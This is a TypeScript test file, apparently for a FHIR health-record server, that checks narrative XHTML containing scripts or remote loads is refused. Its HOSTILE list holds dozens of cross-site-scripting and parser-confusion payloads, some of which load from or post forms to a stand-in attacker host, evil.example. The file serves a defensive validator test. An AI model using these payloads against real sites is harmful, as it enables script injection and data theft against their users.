import { describe, expect, it } from "vitest";
import { rulesOf } from "../http/answers.ts";
import { expectRefused, type Use, whileNothingChanges } from "./scene.ts";

const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"';
const div = (inside: string, attributes = ""): string => `<div ${XHTML}${attributes}>${inside}</div>`;

/** Ways to make a browser run or load something, and markup that two parsers read as two things. */
const HOSTILE: readonly string[] = [
  div("<script>CANARY</script>"),
  div('<script src="//evil.example/CANARY.js"/>'),
  div("<SCRIPT>CANARY</SCRIPT>"),
  div('<img src="x" onerror="CANARY"/>'),
  div('<p onclick="CANARY">x</p>'),
  div('<p ONMOUSEOVER="CANARY">x</p>'),
  div('<a href="javascript:CANARY">x</a>'),
  div('<a href="jav&#x09;ascript:CANARY">x</a>'),
  div('<a href=" javascript:CANARY">x</a>'),
  div('<a href="&#106;avascript:CANARY">x</a>'),
  div('<a href="JaVaScRiPt:CANARY">x</a>'),
  div('<a href="data:text/html,CANARY">x</a>'),
  div('<a href="vbscript:CANARY">x</a>'),
  div('<svg xmlns="http://www.w3.org/2000/svg" onload="CANARY"/>'),
  div("<svg><animate attributeName='href' values='javascript:CANARY'/></svg>"),
  div('<math><mi xlink:href="javascript:CANARY">x</mi></math>'),
  div(
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=CANARY&gt;'/></mglyph></table></mtext></math>",
  ),
  div('<iframe src="//evil.example/CANARY"/>'),
  div('<object data="CANARY"/>'),
  div('<embed src="CANARY"/>'),
  div('<form action="//evil.example"><input name="CANARY"/></form>'),
  div('<input autofocus="" onfocus="CANARY"/>'),
  div('<button formaction="javascript:CANARY">x</button>'),
  div('<link rel="stylesheet" href="CANARY"/>'),
  div('<meta http-equiv="refresh" content="0;CANARY"/>'),
  div('<base href="//evil.example/CANARY"/>'),
  div("<style>@import url(//evil.example/CANARY)</style>"),
  div('<p style="background:url(//evil.example/CANARY)">x</p>'),
  div('<p style="width:expression(CANARY)">x</p>'),
  div('<p style="behavior:url(CANARY)">x</p>'),
  div('<p style="background:u\\72l(//evil.example/CANARY)">x</p>'),
  div('<img src="//evil.example/CANARY.png" alt="x"/>'),
  div('<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="x"/>'),
  div('<video src="CANARY"/>'),
  div('<p id="location">x</p>'),
  div('<p id="cookie" class="CANARY">x</p>'),
  div("<template><p>CANARY</p></template>"),
  div("<noscript><p title='</noscript><img src=x onerror=CANARY>'>x</p></noscript>"),
  div("<!--[if IE]><script>CANARY</script><![endif]-->"),
  div("<!-- --!><img src=x onerror=CANARY> -->"),
  div("<![CDATA[<script>CANARY</script>]]>"),
  div("<?xml-stylesheet href='CANARY'?>"),
  `<!DOCTYPE div [<!ENTITY x "CANARY">]>${div("&x;")}`,
  div("&CANARY;"),
  div("&lt;script>CANARY<script&gt;"),
  div("<p>CANARY"),
  div("<b><i>CANARY</b></i>"),
  div("<p/ onclick=CANARY>x</p>"),
  div("x", ' onload="CANARY"'),
  `<div>CANARY</div>`,
  `<body ${XHTML}>CANARY</body>`,
  `<div xmlns="http://www.w3.org/1999/xlink">CANARY</div>`,
  `${div("x")}<script>CANARY</script>`,
  "CANARY",
  div("<b>".repeat(100) + "CANARY" + "</b>".repeat(100)),
];

const HARMLESS: readonly string[] = [
  div("<p>Seen <b>today</b>, 3 &lt; 4.</p>"),
  div('<table border="1"><tr><td style="color:red">1</td></tr></table>'),
  div('<a href="https://example.org/x?y=1">x</a><a href="#a1">y</a>'),
  div('<p>&nbsp;&eacute; &#233;</p><img src="#pic1" alt="x"/>'),
];

export function narrative(use: Use): void {
  const bodies = (text: string): Readonly<Record<string, object>> => ({
    Patient: { resourceType: "Patient", text: { status: "generated", div: text } },
    Composed: {
      resourceType: "Patient",
      contained: [{ resourceType: "Organization", id: "o", text: { status: "generated", div: text }, name: "x" }],
      managingOrganization: { reference: "#o" },
    },
  });

  describe("AT-42 script in narratives", () => {
    it.each(HOSTILE)("AT-42 %s", async (hostile) => {
      const scene = use();
      const { doc } = scene.world.a;
      const text = hostile.replaceAll("CANARY", scene.canary);
      await whileNothingChanges(scene, async () => {
        for (const body of Object.values(bodies(text))) {
          const answer = await doc.send("POST", "/fhir/Patient", { body });
          expectRefused(scene, answer, 422);
          expect(rulesOf(answer).filter((rule) => rule === "txt-1" || rule === "dom-3")).toContain("txt-1");
        }
        const entry = [{ resource: bodies(text)["Patient"], request: { method: "POST", url: "Patient" } }];
        const bundle = { resourceType: "Bundle", type: "transaction", entry };
        expectRefused(scene, await doc.send("POST", "/fhir", { body: bundle }), 422);
      });
    });
    it("AT-42 a narrative that says nothing", async () => {
      const scene = use();
      for (const text of [div(""), div(" &nbsp; "), div("<p></p>")]) {
        const answer = await scene.world.a.doc.send("POST", "/fhir/Patient", { body: bodies(text)["Patient"] });
        expectRefused(scene, answer, 422);
        expect(rulesOf(answer)).toEqual(["txt-2"]);
      }
    });
    it.each(HARMLESS)("AT-42 control: %s", async (text) => {
      const { doc } = use().world.a;
      const answer = await doc.send("POST", "/fhir/Patient", { body: bodies(text)["Patient"] });
      expect([answer.status, answer.body["text"]?.["div"]]).toEqual([201, text]);
    });
  });
}
